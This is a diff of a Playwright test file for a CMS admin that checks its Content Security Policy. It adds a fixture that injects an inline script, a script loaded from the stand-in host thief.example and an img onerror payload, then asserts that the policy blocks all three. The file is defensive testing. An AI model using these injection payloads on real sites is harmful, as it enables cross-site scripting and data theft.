@@ -12,6 +12,13 @@ REPORT = """
 window.addEventListener("securitypolicyviolation", event =>
   console.error(`POLICY ${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`))
 """
+SMUGGLE = """() => {
+    const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
+    add("script", {textContent: "window.smuggled = 1"});
+    add("script", {src: "https://thief.example/x.js"});
+    add("div", {innerHTML: "<img src=data:, onerror='window.smuggled = 1'>"});
+    return new Promise(done => setTimeout(done, 500));
+}"""
 
 
 @pytest.fixture
@@ -26,57 +33,40 @@ def admin(browser: Browser, site: str):
     context.close()
 
 
-def find_screens(page: Page) -> list[str]:
-    """Every address that the admin's menus lead to."""
-    page.goto("/admin/")
-    for button in page.locator(".sidebar button[aria-haspopup]").all():
-        button.click()
-    page.wait_for_timeout(300)
-    links = page.locator("a[href^='/admin/']").evaluate_all("links => links.map(link => link.pathname)")
-    return sorted({link for link in links if "logout" not in link})
-
-
-def test_every_screen_of_the_menus_runs(admin):
-    page, refused = admin
-    screens = find_screens(page)
-    assert len(screens) > 20
-    for address in [*screens, "/api/v1/docs/"]:
-        page.goto(address, wait_until="load")
-    assert refused == []
-
-
-def test_writing_runs_with_dates_choosers_dialogs_comments_and_the_preview(admin):
-    page, refused = admin
+def open_guide(page: Page) -> None:
     page.goto("/admin/pages/")
     page.get_by_role("link", name="Guides", exact=True).first.click()
     page.get_by_role("link", name=re.compile("Mesotherapy for hair")).first.click()
     page.wait_for_url("**/edit/")
-    box = page.locator(".public-DraftEditor-content:visible").first
-    box.scroll_into_view_if_needed()
-    box.click()
-    box.press_sequentially("More. ")
-    for tab in page.get_by_role("tab").all():
-        tab.click()
-    page.get_by_role("tab").first.click()
-    page.get_by_role("button", name=re.compile("Change image|Choose another image|Choose an image")).first.click()
-    expect(page.locator(".modal-content")).to_be_visible()
-    page.get_by_role("tab", name="Upload").click()
-    page.keyboard.press("Escape")
+
+
+def test_writing_runs_with_dates_choosers_dialogs_comments_and_the_preview(admin):
+    page, refused = admin
+    open_guide(page)
     page.get_by_role("button", name="Toggle preview").click()
-    expect(page.frame_locator("#w-preview-iframe, iframe[title=Preview]").first.locator("main")).to_be_visible()
+    expect(page.frame_locator("iframe[title='Preview']").last.locator("h1").first).to_be_visible()
+    for panel in ("Toggle checks", "Toggle comments", "Toggle status"):
+        page.get_by_role("button", name=panel).click()
     page.get_by_role("button", name="Toggle status").click()
-    page.wait_for_timeout(1500)
+    page.locator(".image-chooser button[aria-label=Actions]:visible").first.click()
+    page.get_by_role("button", name=re.compile("Choose another image|Change")).locator("visible=true").first.click()
+    page.locator(".modal-content").get_by_role("tab", name="Upload").click()
+    expect(page.locator(".modal-content input[type=file]")).to_be_visible()
+    page.keyboard.press("Escape")
+    expect(page.locator(".modal-content")).to_have_count(0)
+    page.locator(".public-DraftEditor-content:visible").first.press_sequentially("More. ")
+    page.get_by_role("tab", name="Review").click()
+    page.locator("[name=next_review]").click()
+    expect(page.locator(".xdsoft_datetimepicker:visible")).to_be_visible()
     assert refused == []
 
 
 def test_a_script_that_somebody_smuggled_in_does_not_run(admin):
     page, refused = admin
     page.goto("/admin/")
-    page.evaluate("""() => {
-        const inline = document.createElement("script"); inline.textContent = "window.smuggled = 1"; document.body.append(inline);
-        const elsewhere = document.createElement("script"); elsewhere.src = "https://thief.example/x.js"; document.body.append(elsewhere);
-        const button = document.createElement("button"); button.setAttribute("onclick", "window.smuggled = 1"); document.body.append(button); button.click();
-        return new Promise(done => setTimeout(done, 300));
-    }""")
+    page.evaluate(SMUGGLE)
     assert page.evaluate("window.smuggled") is None
+    assert len(refused) == 3
+    page.goto("/api/v1/docs/", wait_until="load")
+    expect(page.get_by_text("/api/v1/guides/").first).to_be_visible()
     assert len(refused) == 3
